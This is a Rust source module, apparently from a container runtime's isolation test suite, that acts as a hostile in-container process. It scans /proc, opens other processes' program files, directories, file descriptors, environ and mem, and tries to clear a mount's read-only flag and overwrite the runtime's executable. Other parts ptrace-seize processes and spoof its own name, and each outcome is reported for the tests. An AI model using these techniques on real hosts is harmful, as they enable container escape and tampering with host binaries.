//! Verbs that attack: what a hostile process in a container does to the processes of the runtime that it can see.

use super::attempt;
use crate::sys;
use nix::errno::Errno;
use nix::fcntl::{AT_FDCWD, OFlag, openat};
use nix::sys::stat::Mode;
use std::collections::{BTreeSet, HashMap};
use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

/// How long a program file that was caught is tried to be written to after its process was seen last.
const PERSISTENCE: Duration = Duration::from_secs(2);

/// Watches for processes that run another program than this one, and does to them what it can, until it is killed. Prints a line
/// for each thing that it learns, once: `WHAT OUTCOME`, where the outcome is `ok` or the name of an errno, or what was found.
///
/// | what | means |
/// |---|---|
/// | `exe` | open the process's program file |
/// | `write` | open that file for writing, again and again after it was caught, and write over its beginning |
/// | `gave up` | that it stopped trying to write to a file |
/// | `unlock` | make the mount of that file writable |
/// | `root`, `cwd` | open the process's directories; `ours` or `FOREIGN` says whether it is one of this container |
/// | `fd` | the link of an open file |
/// | `environ`, `mem` | open the one for reading, the other for writing, for which one needs as much right as to trace it |
pub(super) fn spy() -> io::Result<()> {
    let own = fs::metadata("/proc/self/exe")?;
    let mut spy = Spy {
        own: (own.dev(), own.ino()),
        root: identity("/")?,
        said: BTreeSet::new(),
        caught: HashMap::new(),
    };
    super::say("ready")?;
    loop {
        for entry in fs::read_dir("/proc")?.flatten() {
            let number = entry
                .file_name()
                .to_str()
                .and_then(|name| name.parse().ok());
            if let Some(pid) = number.filter(|pid: &u32| *pid != std::process::id()) {
                spy.look_at(pid)?;
            }
        }
        spy.overwrite()?;
    }
}

/// Leaves a thread behind when the first one ends: /proc then shows a zombie that lives.
pub(super) fn leaderless() -> io::Result<()> {
    let watch = std::thread::Builder::new().spawn(|| {
        loop {
            std::thread::park();
        }
    })?;
    super::say("ready")?;
    // exit(2) ends this thread alone.
    sys::call(libc::SYS_exit, [0; 6])?;
    drop(watch);
    Ok(())
}

/// Gives itself a name of these bytes, in hexadecimal: what /proc shows in parentheses.
pub(super) fn rename_self(hex: &str) -> io::Result<()> {
    let byte = |pair: &[u8]| {
        let text = std::str::from_utf8(pair).map_err(io::Error::other)?;
        u8::from_str_radix(text, 16).map_err(io::Error::other)
    };
    let bytes = hex
        .as_bytes()
        .chunks(2)
        .map(byte)
        .collect::<io::Result<Vec<u8>>>()?;
    let name = CString::new(bytes).map_err(io::Error::other)?;
    nix::sys::prctl::set_name(&name).map_err(io::Error::from)
}

struct Spy {
    own: (u64, u64),
    root: (u64, u64),
    said: BTreeSet<String>,
    /// Program files of others, by inode, and until when to try.
    caught: HashMap<(u64, u64), (OwnedFd, Instant)>,
}

impl Spy {
    fn say(&mut self, line: String) -> io::Result<()> {
        if self.said.contains(&line) {
            return Ok(());
        }
        super::say(&line)?;
        self.said.insert(line);
        Ok(())
    }

    fn look_at(&mut self, pid: u32) -> io::Result<()> {
        let of = |what: &str| format!("/proc/{pid}/{what}");
        let exe = openat(
            AT_FDCWD,
            of("exe").as_str(),
            OFlag::O_PATH | OFlag::O_CLOEXEC,
            Mode::empty(),
        );
        match exe {
            // It has ended.
            Err(Errno::ENOENT | Errno::ESRCH) => return Ok(()),
            Err(errno) => self.say(format!("exe {errno:?}"))?,
            Ok(exe) => {
                let inode = fs::metadata(format!("/proc/self/fd/{}", exe.as_raw_fd()))?;
                let inode = (inode.dev(), inode.ino());
                if inode == self.own {
                    return Ok(());
                }
                self.say("exe ok".to_owned())?;
                let until = Instant::now() + PERSISTENCE;
                self.caught
                    .entry(inode)
                    .and_modify(|caught| caught.1 = until)
                    .or_insert((exe, until));
            }
        }
        for what in ["root", "cwd"] {
            let whose = |found| {
                if found == self.root {
                    "ours"
                } else {
                    "FOREIGN"
                }
            };
            let found = identity(&of(what)).map(whose);
            self.outcome(pid, what, found.map(str::to_owned))?;
        }
        match fs::read_dir(of("fd")) {
            Err(error) => self.outcome(pid, "fd", Err(error))?,
            Ok(entries) => {
                for entry in entries.flatten() {
                    let link = fs::read_link(entry.path());
                    self.outcome(pid, "fd", link.map(|link| link.display().to_string()))?;
                }
            }
        }
        let opened = File::open(of("environ")).map(|_| "ok".to_owned());
        self.outcome(pid, "environ", opened)?;
        let opened = OpenOptions::new().write(true).open(of("mem"));
        self.outcome(pid, "mem", opened.map(|_| "ok".to_owned()))
    }

    /// A process that has ended tells nothing, nor does one that has become a program of the container by now.
    fn outcome(&mut self, pid: u32, what: &str, found: io::Result<String>) -> io::Result<()> {
        let exe = identity(&format!("/proc/{pid}/exe"));
        let ended =
            |error: &io::Error| matches!(error.raw_os_error(), Some(libc::ENOENT | libc::ESRCH));
        match found {
            Ok(_) if exe.as_ref().map_or_else(ended, |exe| *exe == self.own) => Ok(()),
            Ok(found) => self.say(format!("{what} {found}")),
            Err(error) if ended(&error) => Ok(()),
            Err(error) => self.say(format!("{what} {}", attempt::name(&error))),
        }
    }

    /// While a file is executed, the kernel refuses to open it for writing (ETXTBSY); afterwards only its mount can.
    fn overwrite(&mut self) -> io::Result<()> {
        let now = Instant::now();
        let before = self.caught.len();
        self.caught.retain(|_, (_, until)| now < *until);
        if self.caught.len() < before {
            self.say("gave up".to_owned())?;
        }
        let links: Vec<(String, i32)> = self
            .caught
            .values()
            .map(|(file, _)| {
                (
                    format!("/proc/self/fd/{}", file.as_raw_fd()),
                    file.as_raw_fd(),
                )
            })
            .collect();
        for (link, number) in links {
            match make_writable(number) {
                Ok(()) => self.say("unlock ok".to_owned())?,
                Err(error) => self.say(format!("unlock {}", attempt::name(&error)))?,
            }
            let written = OpenOptions::new()
                .write(true)
                .open(link)
                .and_then(|mut file| file.write_all(b"overwritten"));
            match written {
                Ok(()) => self.say("write ok".to_owned())?,
                Err(error) => self.say(format!("write {}", attempt::name(&error)))?,
            }
        }
        Ok(())
    }
}

/// A debugger in the container: attaches to every process that runs this program too, and lets it go when it ends.
pub(super) fn seize() -> io::Result<()> {
    const PTRACE_SEIZE: u64 = 0x4206;
    let own = identity("/proc/self/exe")?;
    super::say("ready")?;
    loop {
        for entry in fs::read_dir("/proc")?.flatten() {
            let number = entry
                .file_name()
                .to_str()
                .and_then(|name| name.parse().ok());
            let Some(pid) = number.filter(|pid: &u32| *pid != std::process::id()) else {
                continue;
            };
            let exe = identity(&format!("/proc/{pid}/exe"));
            if exe.is_ok_and(|exe| exe == own)
                && sys::call(libc::SYS_ptrace, [PTRACE_SEIZE, u64::from(pid), 0, 0, 0, 0]).is_ok()
            {
                sys::reap_any()?;
                super::say("seized")?;
            }
        }
    }
}

fn identity(path: &str) -> io::Result<(u64, u64)> {
    fs::metadata(path).map(|data| (data.dev(), data.ino()))
}

/// mount_setattr(2) that clears MOUNT_ATTR_RDONLY.
fn make_writable(file: i32) -> io::Result<()> {
    let attr = [0, libc::MOUNT_ATTR_RDONLY, 0, 0];
    let arguments = [
        file as u64,
        c"".as_ptr().addr() as u64,
        libc::AT_EMPTY_PATH as u64,
        attr.as_ptr().addr() as u64,
        size_of_val(&attr) as u64,
        0,
    ];
    sys::call(libc::SYS_mount_setattr, arguments).map(drop)
}
